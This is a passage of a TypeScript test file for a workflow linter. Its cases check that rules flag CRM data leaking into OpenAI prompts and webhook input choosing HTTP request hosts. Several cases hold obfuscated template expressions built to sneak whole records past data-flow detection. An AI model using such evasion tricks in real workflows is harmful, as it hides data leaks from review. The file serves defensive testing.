    ['DF001@OpenAI'],
  ],
  [
    'and so does what stands before an and',
    wf([hubspot, oai("=Hi {{ (o => (o.push($json) && 'x') + o[0])([]) }}")], ['HubSpot > OpenAI']),
    ['DF001@OpenAI'],
  ],
  [
    'a comparison puts it there',
    wf([hubspot, oai('=Hi {{ (o => [o.push($json) > 0, o[0]])([]) }}')], ['HubSpot > OpenAI']),
    ['DF001@OpenAI'],
  ],
  [
    'a method of its own that bears a harmless name',
    wf([hubspot, oai("=Hi {{ (x => (o => o.includes($json) ? x[0] : '')({ includes: (v) => x.push(v) }))([]) }}")], ['HubSpot > OpenAI']),
    ['DF001@OpenAI'],
  ],
  [
    'tests that only look',
    wf(
      [
        hubspot,
        oai(
          "=Hi {{ $json.properties.email.toLowerCase().endsWith('@example.com') ? 'colleague' : 'guest' }}, {{ $json.tags.some(t => t.trim() === 'new') && 'x' }}",
        ),
      ],
      ['HubSpot > OpenAI'],
    ),
    [],
    ['DF001@OpenAI'],
  ],
  [
    'a field picks one of fixed hosts',
    wf(
      [
        hook,
        code(
          'const hosts = { eu: "https://eu.acme.io", us: "https://us.acme.io" }; return [{ json: { u: hosts[$json.body.region.toLowerCase()] ?? hosts.eu } }];',
        ),
        http({ url: '={{ $json.u }}' }),
      ],
      ['Webhook > Code', 'Code > HTTP'],
    ),
    [],
    ['CN005@HTTP'],
  ],
  [
    'letters, one by one, pick others',
    wf(
      [
        hook,
        code('const t = { a: "b", b: "c" }; return [{ json: { u: $json.body.host.split("").map(c => t[c]).join("") } }];'),
        http({ url: '=https://{{ $json.u }}/x' }),
      ],
      ['Webhook > Code', 'Code > HTTP'],
    ),
    ['CN005@HTTP'],
  ],
  [
    'approval between',
    wf(
      [
        hook,
        oai('=Do {{ $json.body.text }}'),
        [
          'Ask',
          'slack',
          {
            operation: 'sendAndWait',
            select: 'user',
            user: { __rl: true, mode: 'id', value: 'U1' },
            message: '={{ $json.message.content }}',
            options: {},
          },
          { typeVersion: 2.3, credentials: { slackApi: { id: '4', name: 's' } } },
        ],
        IF('={{ $json.data.approved }}'),
        gmail({ message: '={{ $("OpenAI").item.json.message.content }}' }),
      ],
      ['Webhook > OpenAI', 'OpenAI > Ask', 'Ask > If', 'If#0 > Gmail'],
    ),
    [],
  ],
];

it.each(cases.map((one) => [one[0], one] as const))('%s', (_name, [, workflow, must, not = []]) => {
  const [made] = importN8n(workflow, 'workflow.json');
  if (made === undefined) throw new Error('nothing was imported');
  const { flow, leftOut } = made;
  const names = new Map([...flow.nodes, ...flow.notes].map(({ id, name = '' }) => [id, name]));
  const said = lintFlow(flow, { leftOut }).findings.map(({ ruleId, nodeId }) => `${ruleId}@${names.get(nodeId ?? '') ?? ''}`);
  expect({ missed: must.filter((one) => !said.includes(one)), wrong: not.filter((one) => said.includes(one)) }).toEqual({
    missed: [],
    wrong: [],
  });
});
